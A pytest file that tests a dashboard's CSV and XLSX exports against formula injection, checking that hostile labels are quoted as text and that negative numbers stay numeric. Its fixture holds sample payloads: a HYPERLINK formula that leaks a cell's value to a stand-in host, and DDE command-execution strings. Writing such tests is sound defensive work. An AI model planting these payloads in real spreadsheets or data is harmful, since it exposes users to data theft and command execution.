"""Exports are formula-safe: text cells that a spreadsheet would evaluate are neutralised, numbers stay numbers."""

import io
import shutil
import sqlite3
import zipfile
from contextlib import closing

import openpyxl
import pandas as pd
import pytest

from dashboard import database, spreadsheet

HOSTILE_LABELS = {
    "indicator": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "occupation": "+cmd|' /C calc'!A0",
    "sector": "@SUM(1+1)*cmd|' /C calc'!A0",
}
QUERY = "?country=NL&indicator=employed_persons&occupation_code=0334&period=2025-Q4&breakdown=&lang=en"


@pytest.fixture()
def hostile_db(dash_app, db_path, tmp_path):
    """A copy of the data product whose labels carry formulas and whose 0334 2025-Q4 figure is negative."""
    path = tmp_path / "hostile.sqlite"
    shutil.copy(db_path, path)
    with closing(sqlite3.connect(path)) as conn, conn:
        conn.execute("UPDATE indicator SET label_en = ? WHERE indicator = 'employed_persons'", (HOSTILE_LABELS["indicator"],))
        conn.execute("UPDATE occupation SET label_en = ? WHERE scheme = 'brc2014' AND code = '0334'",
                     (HOSTILE_LABELS["occupation"],))
        conn.execute("UPDATE sector SET label_en = ? WHERE scheme = 'nace2' AND code = 'N'", (HOSTILE_LABELS["sector"],))
        conn.execute("UPDATE observation SET value = -3.5 WHERE country = 'NL' AND indicator = 'employed_persons' "
                     "AND occupation_code = '0334' AND period = '2025-Q4' AND breakdown = ''")
    database.use(path)
    yield path
    database.use(db_path)


@pytest.mark.parametrize(("text", "safe"), [
    ("=1+1", "'=1+1"), ("+31 20", "'+31 20"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Callcenter", "Callcenter"), ("B-F", "B-F"), ("", ""),
])
def test_text_starting_with_a_formula_character_gets_a_single_quote(text, safe):
    assert spreadsheet.safe_text(text) == safe


def test_numbers_stay_numbers_and_a_negative_number_is_not_quoted():
    assert [spreadsheet.csv_cell(v) for v in (-3.5, 118000.0, 20.7, None, "-3.5")] == ["-3.5", "118000", "20.7", "",
                                                                                       "'-3.5"]


def test_every_kind_of_cell_a_query_or_a_frame_gives_is_written_as_before_the_fast_path():
    import numpy as np

    cells = (7, 0.1, float("nan"), np.float64(2.5), np.int64(3), pd.NA, True, "=cmd", "")
    assert [spreadsheet.csv_cell(v) for v in cells] == ["7", "0.1", "", "2.5", "3", "", "True", "'=cmd", ""]


def test_the_csv_neutralises_formula_labels_and_keeps_a_negative_value_a_number(dash_app, hostile_db):
    response = dash_app.server.test_client().get("/download/observations.csv" + QUERY)
    rows = pd.read_csv(io.StringIO(response.get_data(as_text=True)), dtype=str, keep_default_na=False)
    assert len(rows) == 1
    row = rows.iloc[0]
    assert row["indicator_label"] == "'" + HOSTILE_LABELS["indicator"]
    assert row["occupation_label"] == "'" + HOSTILE_LABELS["occupation"]
    assert row["value"] == "-3.5"


def test_the_csv_neutralises_a_formula_sector_label(dash_app, hostile_db):
    response = dash_app.server.test_client().get("/download/observations.csv?sector_code=N&indicator=vacancies_open"
                                                 "&period=2023-Q3&breakdown=&lang=en")
    rows = pd.read_csv(io.StringIO(response.get_data(as_text=True)), dtype=str, keep_default_na=False)
    assert set(rows["sector_label"]) == {"'" + HOSTILE_LABELS["sector"]}


def test_the_xlsx_types_formula_labels_as_text_cells_and_the_value_as_a_number(dash_app, hostile_db):
    response = dash_app.server.test_client().get("/download/observations.xlsx" + QUERY)
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert row["indicator_label"].value == "'" + HOSTILE_LABELS["indicator"]
    assert row["occupation_label"].value == "'" + HOSTILE_LABELS["occupation"]
    assert row["indicator_label"].data_type == row["occupation_label"].data_type == "s"
    assert (row["value"].value, row["value"].data_type) == (-3.5, "n")
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_an_xlsx_text_that_looks_like_an_error_code_stays_text():
    out = io.BytesIO()
    spreadsheet.write_xlsx(out, "t", ["label", "value"], [[("#N/A", 1.5)]])
    cell = openpyxl.load_workbook(out).active["A2"]
    assert (cell.value, cell.data_type) == ("#N/A", "s")
